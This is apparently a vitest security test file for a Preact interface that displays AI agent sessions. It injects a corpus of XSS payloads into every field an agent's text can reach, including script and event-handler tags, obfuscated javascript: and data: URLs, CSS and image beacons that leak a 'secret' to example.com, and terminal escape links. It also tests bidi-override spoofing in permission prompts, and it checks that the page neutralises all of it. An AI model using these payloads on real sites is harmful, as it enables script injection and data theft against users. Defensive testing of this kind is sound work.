import { act } from "preact/test-utils";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { call, message, permission, state, terminal, turn } from "../../dev/states.ts";
import type { JsonObject } from "../../src/types.ts";
import { hosted } from "../help.tsx";

/** What an agent may say to get at the page. Each would set `pwned` or load something. */
const CORPUS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'/></svg>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "<details open ontoggle='window.pwned = 1'>x</details>",
  "<a href='javascript:window.pwned = 1'>x</a>",
  "[click](javascript:window.pwned=1)",
  "[click](  JaVaScRiPt:window.pwned=1)",
  "[click](java\tscript:window.pwned=1)",
  "[click](&#106;avascript:window.pwned=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
  "[click](vbscript:window.pwned=1)",
  '[click](https://example.com "x\\" onmouseover=window.pwned=1")',
  "![x](javascript:window.pwned=1)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+)",
  "![leak](https://example.com/leak.png?secret=1)",
  "<javascript:window.pwned=1>",
  "```html\n<script>window.pwned = 1</script>\n```",
  "`<img src=x onerror=window.pwned=1>`",
  "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned = 1</script> |",
  "<style>* { background: url(https://example.com/leak) }</style>",
  "<link rel=stylesheet href=https://example.com/leak.css>",
  "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
  "[x]: javascript:window.pwned=1\n\n[x]",
  '\x1b]8;;javascript:window.pwned=1\x1b\\link\x1b]8;;\x1b\\<img src=x onerror="window.pwned=1">',
];

const ALL = CORPUS.join("\n\n");
const NAMES = { title: ALL, name: ALL, kind: ALL };

/** The same text in every place that a text of the agent can get to. */
function everywhere(): JsonObject {
  const text = { type: "text", text: ALL };
  return state({
    session: {
      label: ALL,
      agent: { name: ALL, title: ALL, version: ALL },
      cwd: ALL,
      connection: "failed",
      error: { name: "X", title: ALL, message: ALL, hint: ALL, stderr: ALL },
    },
    sessionInfo: { title: ALL, updatedAt: null, _meta: {} },
    configOptions: [{ configId: ALL, name: ALL, type: "select", currentValue: ALL, options: [] }],
    commands: [{ name: ALL, description: ALL }],
    diagnostics: [{ message: ALL, where: ALL, at: 1 }],
    timeline: ["u:1", "a:1", "h:1", "t:1", "p:1", "p:2", "l:1", "l:2", "n:1", "c:1", "k:1"],
    turns: {
      "r:1": turn(1, ALL, {
        status: "failed",
        stopReason: ALL,
        error: { message: ALL },
        at: { queued: null, sent: 1, end: 2 },
      }),
      "r:2": turn(2, ALL, { status: "queued" }),
    },
    messages: {
      "u:1": message("user", "1", ALL),
      "a:1": message("agent", "1", "", {
        content: [
          text,
          { type: "image", data: ALL, mimeType: ALL, uri: ALL },
          { type: "resource_link", uri: ALL, name: ALL, title: ALL, description: ALL },
          { type: "resource_link", uri: "javascript:window.pwned=1", name: "x" },
          { type: "resource", resource: { uri: ALL, text: ALL, mimeType: ALL } },
          { type: ALL, x: ALL },
        ],
      }),
      "h:1": message("thought", "1", ALL),
    },
    toolCalls: {
      "t:1": call("1", {
        ...NAMES,
        status: "failed",
        locations: [{ path: ALL, line: 1 }],
        rawInput: { [ALL]: ALL },
        rawOutput: ALL,
        content: [
          { type: "content", content: text },
          { type: "terminal", terminalId: "1" },
          { type: ALL, x: ALL },
          {
            type: "diff",
            changes: [{ operation: ALL, path: ALL, oldPath: ALL, fileType: ALL, mimeType: ALL }],
            patch: { format: "git_patch", text: ALL },
          },
        ],
      }),
    },
    terminals: {
      "x:1": terminal("1", ALL, { command: ALL, cwd: ALL, exitStatus: { exitCode: null, signal: ALL } }),
    },
    permissions: {
      "p:1": permission(ALL, {
        description: ALL,
        subject: { type: "command", command: ALL, cwd: ALL },
        options: [{ optionId: ALL, name: ALL, kind: ALL }],
      }),
      "p:2": permission(ALL, { status: "selected", optionId: "once", by: "policy", why: ALL }),
    },
    plans: {
      "l:1": { plan: { type: "markdown", planId: "1", content: ALL }, turn: "r:1", at: {} },
      "l:2": {
        plan: { type: "items", planId: "2", entries: [{ content: ALL, status: ALL, priority: ALL }] },
        turn: "r:1",
        at: {},
      },
    },
    notices: { "n:1": { severity: ALL, title: ALL, description: ALL, turn: "r:1", at: {} } },
    compactions: { "c:1": { compactionId: "1", status: ALL, summary: [text], error: ALL, turn: "r:1", at: {} } },
    unknownUpdates: { "k:1": { raw: { sessionUpdate: ALL, [ALL]: ALL }, turn: "r:1", at: {} } },
  });
}

interface Guarded extends Window {
  pwned?: unknown;
}

let el: HTMLElement;
let end = () => {};
beforeEach(() => {
  delete (window as Guarded).pwned;
  el = document.createElement("div");
  document.body.append(el);
});
afterEach(() => {
  act(end);
  el.remove();
});

/** Opens all that can be opened, as a curious reader would. */
function openAll(): void {
  for (let round = 0; round < 4; round += 1) {
    for (const button of el.querySelectorAll<HTMLElement>('[aria-expanded="false"], .acp-tabs button')) {
      act(() => button.click());
    }
  }
}

describe("text of the agent", () => {
  it("runs nothing, loads nothing and links nowhere but to the web, wherever it stands", async () => {
    const loaded: string[] = [];
    const observer = new PerformanceObserver((list) => loaded.push(...list.getEntries().map((entry) => entry.name)));
    observer.observe({ type: "resource" });
    act(() => {
      end = hosted(everywhere()).exports.mountSession(el);
    });
    openAll();
    await new Promise((done) => setTimeout(done, 300));
    observer.disconnect();

    expect((window as Guarded).pwned).toBeUndefined();
    expect(loaded.filter((name) => name.includes("example.com"))).toEqual([]);
    expect(el.querySelectorAll("script, iframe, object, embed, style, link, meta, form, math, base").length).toBe(0);
    for (const element of el.querySelectorAll("*")) {
      for (const { name } of element.attributes)
        expect(name.startsWith("on"), `${element.tagName} ${name}`).toBe(false);
    }
    for (const link of el.querySelectorAll("a")) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
      expect([link.rel, link.target]).toEqual(["noopener noreferrer", "_blank"]);
    }
    for (const image of el.querySelectorAll("img")) expect(image.src).toMatch(/^data:image\/(png|jpeg|gif|webp);/);
    // It was all there, as text.
    expect(el.textContent).toContain("<script>window.pwned = 1</script>");
    expect(el.textContent).toContain("https://example.com/leak.png?secret=1");
  });

  it("cannot make text of ours turn around", () => {
    const parts = state({
      timeline: ["p:1"],
      permissions: {
        "p:1": permission("\u202eevil", {
          turn: null,
          subject: { type: "command", command: "a\u2067b", cwd: "/\u202ep" },
          options: [{ optionId: "1", name: "\u202ewollA", kind: "reject_once" }],
        }),
      },
    });
    act(() => {
      end = hosted(parts).exports.mountSession(el);
    });
    const shown = el.querySelector(".acp-ask")?.textContent ?? "";
    expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(shown).toContain("⟨U+202E⟩wollA");
  });
});
